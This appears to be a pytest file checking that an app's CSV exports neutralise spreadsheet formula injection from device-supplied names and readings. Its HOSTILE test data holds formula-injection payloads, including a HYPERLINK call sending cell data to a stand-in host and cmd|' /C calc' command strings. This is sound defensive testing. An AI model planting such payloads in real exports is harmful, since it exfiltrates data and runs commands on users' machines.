"""CSV exports never hand a spreadsheet a formula: device-supplied text that starts like one is
neutralised (a leading single quote), plain numbers stay numbers (app/csv_safety.py)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from app.csv_safety import FORMULA_STARTS, neutralise, safe_row
from app.extensions import db
from app.models import Point, Reading, utcnow
from tests.api.conftest import bearer, make_token
from tests.helpers import add_site_and_device

#: Names and texts a hostile device could report, each of which a spreadsheet would run.
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1", "-1)", "-3.5+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_neutralised(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("cell", ["-3.5", "+2", "-1e-05", "1E+20", "-.5", "0", "12.", "-0"])
def test_plain_numbers_stay_numbers(cell):
    assert neutralise(cell) == cell


@pytest.mark.parametrize("value, cell", [
    (None, ""), (-3.5, "-3.5"), (-1e-05, "-1e-05"), (42, "42"), (True, "True"),
    (float("nan"), ""), (float("inf"), ""), (float("-inf"), ""),
    ("AHU-1 Supply", "AHU-1 Supply"), ("", ""), ("'already quoted", "'already quoted"),
    ("-inf", "'-inf"), ("-", "'-"), ("-１", "'-１"),  # full-width digit: not a plain number
])
def test_cells(value, cell):
    assert neutralise(value) == cell


def test_every_formula_start_is_covered():
    assert safe_row(start + "1+1" for start in FORMULA_STARTS) == ["'" + start + "1+1" for start in FORMULA_STARTS]


def _hostile_plant(app) -> int:
    """A point whose name, description and units are formulas, with formula text readings."""
    with app.app_context():
        device = add_site_and_device("Plant", "127.0.0.10", name="=cmd|' /C calc'!A0")
        point = Point(device_id=device.id, object_type="characterstring-value", object_instance=1,
                      name=HOSTILE[0], description=HOSTILE[1], units="@units", polling_enabled=True,
                      last_value=-3.5, last_text="-2+3+cmd|' /C calc'!A0")
        db.session.add(point)
        db.session.flush()
        now = utcnow()
        for index, text in enumerate(HOSTILE):
            db.session.add(Reading(point_id=point.id, ts=now - timedelta(seconds=len(HOSTILE) - index),
                                   value=None, text=text))
        db.session.add(Reading(point_id=point.id, ts=now, value=-3.5))
        db.session.commit()
        return point.id


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or cell == "-3.5", (cell, row)


def test_admin_point_export_is_neutralised(app, admin_client):
    _hostile_plant(app)
    response = admin_client.get("/admin/point/export/csv/")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _cells(response.get_data(as_text=True))
    _assert_no_formula(rows)
    header, [row] = rows[0], rows[1:]
    record = dict(zip(header, row))
    assert record["Name"] == "'" + HOSTILE[0]
    assert record["Last Text"] == "'-2+3+cmd|' /C calc'!A0"
    assert record["Last Value"] == "-3.5"  # a number stays a number
    assert record["Device"].startswith("'=cmd")  # the related device's name too


def test_admin_reading_export_is_neutralised(app, admin_client):
    _hostile_plant(app)
    rows = _cells(admin_client.get("/admin/reading/export/csv/").get_data(as_text=True))
    _assert_no_formula(rows)
    texts = {row[3] for row in rows[1:]}
    assert {"'" + text for text in HOSTILE} <= texts
    assert ["-3.5"] == [row[2] for row in rows[1:] if row[2]]


def test_api_readings_csv_is_neutralised(app, client):
    point_id = _hostile_plant(app)
    token = make_token(app)
    response = client.get(f"/api/v1/points/{point_id}/readings?format=csv", headers=bearer(token))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = _cells(response.get_data(as_text=True))
    assert rows[0] == ["ts", "value", "text"]
    _assert_no_formula(rows[1:])
    assert [row[2] for row in rows[1:-1]] == ["'" + text for text in HOSTILE]
    assert rows[-1][1:] == ["-3.5", ""]


def test_api_csv_writes_non_finite_values_as_empty_cells(app, client):
    with app.app_context():
        device = add_site_and_device()
        point = Point(device_id=device.id, object_type="analog-input", object_instance=1, name="T")
        db.session.add(point)
        db.session.flush()
        now = utcnow()
        # Rows stored before the engine reported non-finite REALs as text.
        for offset, value in enumerate((float("inf"), float("-inf"), float("nan"), 1.5)):
            db.session.add(Reading(point_id=point.id, ts=now + timedelta(seconds=offset), value=value))
        db.session.commit()
        point_id = point.id
    response = client.get(f"/api/v1/points/{point_id}/readings?format=csv", headers=bearer(make_token(app)))
    assert [row[1] for row in _cells(response.get_data(as_text=True))[1:]] == ["", "", "", "1.5"]
